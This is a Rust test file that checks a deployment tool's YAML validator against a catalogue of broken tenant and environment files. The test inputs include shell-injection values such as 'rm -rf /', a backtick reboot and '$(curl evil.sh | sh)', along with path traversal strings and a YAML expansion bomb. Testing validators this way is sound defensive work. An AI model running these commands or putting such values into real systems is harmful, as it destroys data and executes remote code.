//! The catalogue of broken inputs: each case is a small repo; the rendered diagnostics are
//! snapshot-tested, and each case also asserts the diagnostic codes it must produce, so a
//! snapshot update cannot quietly drop a problem.

use berth::output::diagnostics;
use berth::validate::{Severity, validate};

use crate::support::Repo;

const ENV: &str = "\
version: 1
domain: example.app
hosts:
  dokku-1:
    dokku: { ssh: dokku@10.0.0.5:22, host-key: \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\" }
    capacity: 2
  docker-1:
    docker: { endpoint: unix:///var/run/docker.sock }
    ports: 20000-20010
tiers:
  starter: { processes: { web: 1 }, memory: 512M, cpus: 0.5 }
  pro: { processes: { web: 2, worker: 1 }, memory: 2G, cpus: 1 }
secrets: { provider: env, names: [openai] }
";

/// Build a repo with the base environment plus `files`, validate it, and return the
/// rendered text and the diagnostic codes.
fn run(files: &[(&str, &[u8])]) -> (String, Vec<&'static str>) {
    let repo = Repo::new();
    repo.write("environments/prod.yaml", ENV);
    for (path, bytes) in files {
        repo.write_bytes(path, bytes);
    }
    let sources = berth::repo::load_dir(repo.path()).unwrap();
    let started = std::time::Instant::now();
    let (fleet, diags) = validate(&sources);
    assert!(
        started.elapsed().as_secs() < 5,
        "validation took {:?}",
        started.elapsed()
    );
    assert!(fleet.is_none(), "expected the repo to be invalid");
    assert!(diags.iter().any(|d| d.severity == Severity::Error));
    let text = diagnostics::render_text(&sources, &diags, false);
    let codes = diags.iter().map(|d| d.code).collect();
    (
        format!("{text}{}\n", diagnostics::summary(&sources, &diags)),
        codes,
    )
}

macro_rules! case {
    ($name:ident, [$($file:expr => $text:expr),+ $(,)?], [$($code:expr),+ $(,)?]) => {
        #[test]
        fn $name() {
            let (text, codes) = run(&[$(($file, AsRef::<[u8]>::as_ref(&$text))),+]);
            for code in [$($code),+] {
                assert!(codes.contains(&code), "missing {code} in {codes:?}\n{text}");
            }
            insta::assert_snapshot!(stringify!($name), text);
        }
    };
}

case!(syntax_error, ["tenants/acme.yaml" => "environment: prod\napps: [\n  web\n"], ["berth::yaml"]);
case!(wrong_type, ["tenants/acme.yaml" => "environment: prod\napps:\n  web:\n    image: app:1\n    tls: maybe\n"], ["berth::schema"]);
case!(yes_is_not_a_boolean, ["tenants/acme.yaml" => "environment: prod\napps:\n  web: { image: app:1, tls: yes }\n"], ["berth::schema"]);
case!(unknown_key_with_hint, ["tenants/acme.yaml" => "environment: prod\napps:\n  web:\n    image: app:1\n    procesess: { web: 2 }\n"], ["berth::unknown-key"]);
case!(missing_required_key, ["tenants/acme.yaml" => "name: ACME\ntier: pro\n"], ["berth::missing-key"]);
case!(every_problem_at_once, ["tenants/acme.yaml" => "environment: prod\nstat: active\ntier: platinum\napps:\n  web:\n    imge: app:1\n  Bad_Name:\n    image: app:1\n"], ["berth::unknown-key", "berth::missing-key"]);
case!(duplicate_domain_across_files, [
    "tenants/acme.yaml" => "environment: prod\nhost: docker-1\napps:\n  web: { image: app:1, domains: [shop.example.app] }\n",
    "tenants/globex.yaml" => "environment: prod\nhost: docker-1\napps:\n  web:\n    image: app:1\n    domains:\n      - www.globex.example\n      - shop.example.app\n",
], ["berth::duplicate-domain"]);
case!(id_with_shell_metacharacters, ["tenants/acme.yaml" => "id: \"acme;rm -rf /\"\nenvironment: prod\n"], ["berth::invalid-name"]);
case!(id_with_backtick, ["tenants/acme.yaml" => "id: \"ac`reboot`me\"\nenvironment: prod\n"], ["berth::invalid-name"]);
case!(id_with_command_substitution, ["tenants/acme.yaml" => "id: \"$(curl evil.sh | sh)\"\nenvironment: prod\n"], ["berth::invalid-name"]);
case!(id_with_newline, ["tenants/acme.yaml" => "id: \"acme\\nrm\"\nenvironment: prod\n"], ["berth::invalid-name"]);
case!(id_uppercase, ["tenants/ACME.yaml" => "environment: prod\n"], ["berth::invalid-name"]);
case!(id_too_long, [&format!("tenants/{}.yaml", "a".repeat(64)) as &str => "environment: prod\n"], ["berth::invalid-name"]);
case!(id_path_traversal, ["tenants/acme.yaml" => "id: ../../etc\nenvironment: prod\n"], ["berth::invalid-name"]);
case!(file_stem_not_id, ["tenants/acme.yaml" => "id: globex\nenvironment: prod\n"], ["berth::stem-mismatch"]);
case!(unknown_environment, ["tenants/acme.yaml" => "environment: prdo\n"], ["berth::unknown-reference"]);
case!(unknown_host, ["tenants/acme.yaml" => "environment: prod\nhost: dokku-9\n"], ["berth::unknown-reference"]);
case!(unknown_tier, ["tenants/acme.yaml" => "environment: prod\ntier: platinum\n"], ["berth::unknown-reference"]);
case!(unknown_service, ["tenants/acme.yaml" => "environment: prod\napps:\n  web:\n    image: app:1\n    uses: [db]\n"], ["berth::unknown-reference"]);
case!(unknown_secret, ["tenants/acme.yaml" => "environment: prod\napps:\n  web:\n    image: app:1\n    env:\n      STRIPE_KEY: { secret: stripe }\n"], ["berth::unknown-reference"]);
case!(port_collision, [
    "tenants/acme.yaml" => "environment: prod\nhost: docker-1\napps:\n  web:\n    image: app:1\n    ports: [{ container: 8080, host: 20001 }]\n",
    "tenants/globex.yaml" => "environment: prod\nhost: docker-1\napps:\n  web:\n    image: app:1\n    ports: [{ container: 80, host: 20001 }]\n",
], ["berth::port-collision"]);
case!(port_outside_host_range, ["tenants/acme.yaml" => "environment: prod\nhost: docker-1\napps:\n  web:\n    image: app:1\n    ports: [{ container: 8080, host: 8080 }]\n"], ["berth::port-out-of-range"]);
case!(capacity_exceeded, [
    "tenants/a.yaml" => "environment: prod\nhost: dokku-1\n",
    "tenants/b.yaml" => "environment: prod\nhost: dokku-1\n",
    "tenants/c.yaml" => "environment: prod\nhost: dokku-1\n",
], ["berth::capacity"]);
case!(duplicate_dokku_app_name, [
    "tenants/a-b.yaml" => "environment: prod\nhost: dokku-1\napps:\n  c: { image: app:1 }\n",
    "tenants/a.yaml" => "environment: prod\nhost: dokku-1\napps:\n  b-c: { image: app:1 }\n",
], ["berth::duplicate-app"]);
case!(empty_file, ["tenants/acme.yaml" => ""], ["berth::empty-file"]);
case!(huge_file, ["tenants/acme.yaml" => format!("environment: prod\nname: \"{}\"\n", "x".repeat(5 * 1024 * 1024))], ["berth::unreadable"]);
case!(not_utf8, ["tenants/acme.yaml" => b"environment: prod\nname: \xff\xfe caf\xe9\n".to_vec()], ["berth::unreadable"]);
case!(billion_laughs, ["tenants/acme.yaml" => "\
environment: prod
a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"], ["berth::yaml"]);
case!(list_instead_of_map, ["tenants/acme.yaml" => "- environment: prod\n- tier: pro\n"], ["berth::schema"]);
case!(duplicate_key, ["tenants/acme.yaml" => "environment: prod\ntier: pro\ntier: starter\n"], ["berth::schema"]);
case!(hostile_image, ["tenants/acme.yaml" => "environment: prod\napps:\n  web: { image: \"app:1; rm -rf /\" }\n"], ["berth::invalid-image"]);
case!(storage_path_traversal, ["tenants/acme.yaml" => "environment: prod\nhost: docker-1\napps:\n  web:\n    image: app:1\n    storage: [{ volume: data, path: /app/../../etc }]\n"], ["berth::invalid-path"]);
case!(invalid_env_key, ["tenants/acme.yaml" => "environment: prod\napps:\n  web:\n    image: app:1\n    env: { BAD-KEY: x, DOKKU_APP_TYPE: y }\n"], ["berth::invalid-env-key", "berth::reserved-env"]);
case!(deep_nesting, ["tenants/acme.yaml" => format!("environment: prod\nname: {}{}\n", "[".repeat(200), "]".repeat(200))], ["berth::yaml"]);
case!(two_documents, ["tenants/acme.yaml" => "environment: prod\n---\nenvironment: prod\n"], ["berth::yaml"]);
case!(unsupported_version, ["tenants/acme.yaml" => "version: 2\nenvironment: prod\n"], ["berth::version"]);
case!(environment_errors, ["environments/staging.yaml" => "\
hosts:
  both:
    dokku: { ssh: dokku@h, host-key: \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqq\" }
    docker: { endpoint: unix:///var/run/docker.sock }
  badkey:
    dokku: { ssh: \"dokku@h; reboot\", host-key: \"not a key\" }
  web:
    docker: { endpoint: \"ftp://x\" }
    ports: 30000-20000
  hung:
    docker: { endpoint: \"tcp://h:2375\", timeout: 0 }
stripe: { prices: { price_1: gold } }
"], ["berth::host-kind", "berth::invalid-ssh", "berth::invalid-host-key", "berth::invalid-endpoint", "berth::invalid-port-range", "berth::invalid-timeout", "berth::unknown-reference"]);

#[test]
fn base_environment_alone_is_valid() {
    let repo = Repo::new();
    repo.write("environments/prod.yaml", ENV);
    repo.write(
        "tenants/acme.yaml",
        "environment: prod\nhost: dokku-1\ntier: pro\napps:\n  web: { image: app:1, uses: [db], tls: true }\nservices:\n  db: { kind: postgres }\n",
    );
    let sources = berth::repo::load_dir(repo.path()).unwrap();
    let (fleet, diags) = validate(&sources);
    assert!(diags.is_empty(), "{diags:?}");
    let fleet = fleet.unwrap();
    let web = &fleet.tenants["acme"].stack.apps["web"];
    assert_eq!(
        web.processes.get("worker"),
        Some(&1),
        "tier processes apply"
    );
    assert_eq!(web.domains, ["acme.example.app"], "default domain");
    assert_eq!(web.memory, Some(2 << 30));
}

mod robustness {
    use super::*;
    use proptest::prelude::*;

    fn validate_text(text: &str) {
        let sources = berth::spec::source::SourceSet {
            files: vec![
                berth::spec::source::SourceFile {
                    path: "environments/prod.yaml".into(),
                    kind: berth::spec::source::FileKind::Environment,
                    text: Ok(ENV.into()),
                },
                berth::spec::source::SourceFile {
                    path: "tenants/acme.yaml".into(),
                    kind: berth::spec::source::FileKind::Tenant,
                    text: Ok(text.into()),
                },
            ],
        };
        let (_, diags) = validate(&sources);
        let _ = diagnostics::render_text(&sources, &diags, false);
        let _ = diagnostics::render_json(&sources, &diags);
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        /// Arbitrary text never panics.
        #[test]
        fn arbitrary_text_never_panics(text in "\\PC{0,200}") {
            validate_text(&text);
        }

        /// YAML-ish text built from the format's own vocabulary never panics.
        #[test]
        fn yaml_shaped_text_never_panics(parts in proptest::collection::vec(prop_oneof![
            Just("environment: prod\n"), Just("apps:\n"), Just("  web:\n"), Just("    image: x\n"),
            Just("    env: { A: { generate: 3 } }\n"), Just("services: { db: { kind: redis } }\n"),
            Just("- "), Just(": "), Just("&a "), Just("*a "), Just("{"), Just("}"), Just("["), Just("]"),
            Just("\"é\\u0000\""), Just("    ports: [{container: 0, host: 99999}]\n"), Just("\t"), Just("\n"),
        ], 0..40)) {
            validate_text(&parts.concat());
        }
    }
}

// Every problem at once: a structural problem (an unknown key) does not hide a semantic one
// (an unknown tier) in the same file; when too little parsed, the report says the other
// checks were skipped.
case!(schema_and_semantic_problems_in_one_file, ["tenants/acme.yaml" => "\
environment: prod
tier: prooo
replcas: 2
apps:
  web:
    image: registry.example.app/app:1.4.2
"], ["berth::unknown-key", "berth::unknown-reference"]);

case!(checks_skipped_are_said, ["tenants/acme.yaml" => "\
environmnt: prod
tier: pro
apps:
  web:
    image: registry.example.app/app:1.4.2
"], ["berth::missing-key", "berth::checks-skipped"]);

// Issue 13.2: every key a Dokku app accepts acts; Docker-only keys are refused with what to
// use instead.
case!(docker_only_keys_on_a_dokku_app, ["tenants/acme.yaml" => "environment: prod\nhost: dokku-1\napps:\n  web:\n    image: app:1\n    command: [bin/web]\n    commands: { web: [bin/web] }\n    health: { path: /health }\n    pull: always\n    port: 8080\n    restart: always\n"], ["berth::not-for-dokku"]);
case!(docker_only_keys_on_a_dokku_service, ["tenants/acme.yaml" => "environment: prod\nhost: dokku-1\nservices:\n  db:\n    kind: postgres\n    memory: 1G\n    env: { POSTGRES_DB: app }\n    storage: [{ volume: data, path: /var/lib/postgresql/data }]\n"], ["berth::not-for-dokku"]);
// Issue 13.7: a value over 64 KiB, an app env over 1 MiB (by aliases: a file is at most
// 1 MiB). Not snapshots: the rendered source lines are the huge values themselves.
#[test]
fn env_value_too_large() {
    let text = format!(
        "environment: prod\napps:\n  web:\n    image: app:1\n    env:\n      BLOB: \"{}\"\n",
        "x".repeat(100_000)
    );
    let (out, codes) = run(&[("tenants/acme.yaml", text.as_bytes())]);
    assert_eq!(codes, ["berth::value-too-large"], "{out}");
    assert!(out.contains("100000 bytes") && out.contains("MAX_ARG_STRLEN"));
}

#[test]
fn env_total_too_large() {
    let mut text = format!(
        "environment: prod\napps:\n  web:\n    image: app:1\n    env:\n      BLOB_0: &blob \"{}\"\n",
        "x".repeat(64_000)
    );
    for i in 1..17 {
        text.push_str(&format!("      BLOB_{i}: *blob\n"));
    }
    let (out, codes) = run(&[("tenants/acme.yaml", text.as_bytes())]);
    assert_eq!(codes, ["berth::env-too-large"], "{out:.2000}");
    assert!(out.contains("ARG_MAX"));
}
